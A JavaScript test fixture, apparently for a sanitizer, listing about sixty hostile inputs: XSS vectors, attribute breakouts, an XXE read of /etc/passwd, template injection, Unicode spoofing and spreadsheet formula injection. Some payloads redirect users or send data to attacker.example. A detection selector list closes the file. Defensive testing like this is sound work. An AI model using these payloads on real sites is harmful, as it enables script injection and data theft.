// hostile - sixty strings that want to be something else than text.
//
// Each that could come alive says so: by a dialog, by globalThis.hostile, or by an element that only
// it can have made.  The number in front tells which one it was.

const CAN_DO = 'globalThis.hostile=1;alert(1)';

const MARKUP = [
	`<script>${CAN_DO}</script>`,
	`<img src=x onerror="${CAN_DO}">`,
	`<svg onload="${CAN_DO}"></svg>`,
	`<svg><script>${CAN_DO}</script></svg>`,
	`<iframe srcdoc="<script>parent.hostile=1</script>"></iframe>`,
	`<iframe src="javascript:${CAN_DO}"></iframe>`,
	`<object data="javascript:${CAN_DO}"></object>`,
	`<embed src="javascript:${CAN_DO}">`,
	`<video><source onerror="${CAN_DO}"></video>`,
	`<audio src=x onerror="${CAN_DO}"></audio>`,
	`<marquee onstart="${CAN_DO}">x</marquee>`,
	`<math><mtext><img src=x onerror="${CAN_DO}"></mtext></math>`,
	`<base href="//attacker.example/">`,
	`<meta http-equiv="refresh" content="0;url=//attacker.example/">`,
	`<style>*{display:none}</style>`,
	`<link rel="stylesheet" href="//attacker.example/x.css">`,
	`<form action="//attacker.example/"><button>Log in</button></form>`,
	`<template><img src=x onerror="${CAN_DO}"></template>`,
	`<x-hostile>x</x-hostile>`,
	`</title><script>${CAN_DO}</script>`,
	`</textarea><script>${CAN_DO}</script>`,
	`</option></select><img src=x onerror="${CAN_DO}">`,
	`--><img src=x onerror="${CAN_DO}"><!--`,
	`]]><img src=x onerror="${CAN_DO}"><![CDATA[`,
	`<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`,
	`<?xml-stylesheet href="javascript:${CAN_DO}"?>`,
];

const ATTRIBUTES = [
	`" onmouseover="${CAN_DO}" x="`,
	`' onfocus='${CAN_DO}' autofocus='`,
	`" autofocus onfocus=${CAN_DO} x="`,
	`"><img src=x onerror="${CAN_DO}">`,
	`'><img src=x onerror="${CAN_DO}">`,
	'` onerror=`' + CAN_DO + '`',
	`x" style="position:fixed;inset:0" y="`,
	`javascript:${CAN_DO}`,
	`JaVaScRiPt:${CAN_DO}//`,
	`data:text/html,<script>${CAN_DO}</script>`,
	`//attacker.example/%2e%2e/`,
	`../../../etc/passwd`,
	`&lt;img src=x onerror=${CAN_DO}&gt;`,
	`&#60;script&#62;${CAN_DO}&#60;/script&#62;`,
];

const TEMPLATES = [
	'${' + CAN_DO + '}',
	'$${line.address}',
	'{{constructor.constructor("' + CAN_DO + '")()}}',
	'<%= 7 * 7 %>',
	'#{7*7}',
	'{n} {name} {user}',
	'__proto__',
	'constructor',
];

const UNICODE = [
	'\u202egnp.exe\u202c',
	'\u2066left\u2069 \u2067right\u2069',
	'\u05d0\u05d1\u05d2 abc \u0627\u0628\u062a',
	'\u{1f4de}\u{1f469}\u200d\u{1f4bb}\u{20000}\u{10fffd}',
	'e\u0301\u0323\u0308'.repeat(12),
	'zero\u200bwidth\u200d\ufeff',
	'\uff1cscript\uff1e\uff1c/script\uff1e',
];

const FORMULAE = ['=HYPERLINK("http://attacker.example","x")', '+1+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|x'];

const CONTROLS = ['a\tb', 'a\u0007b\u001b[31mred'];

export const HOSTILE = [...MARKUP, ...ATTRIBUTES, ...TEMPLATES, ...UNICODE, ...FORMULAE, ...CONTROLS];

/* What in the document cannot be of the page itself: tags, links and attributes. */
export const NEVER = ['img', 'iframe', 'object', 'embed', 'video', 'audio', 'source', 'marquee', 'math', 'base', 'style', 'template', 'x-hostile',
	'meta[http-equiv]', 'script:not([src^="/"])', 'link[href^="//"]', 'svg script', 'form[action]', '[autofocus=""][onfocus]', '[onerror]', '[onload]',
	'[onmouseover]', '[onfocus]', 'a[href^="javascript" i]', 'a[href^="data:" i]', 'a[href^="//"]'].join(', ');
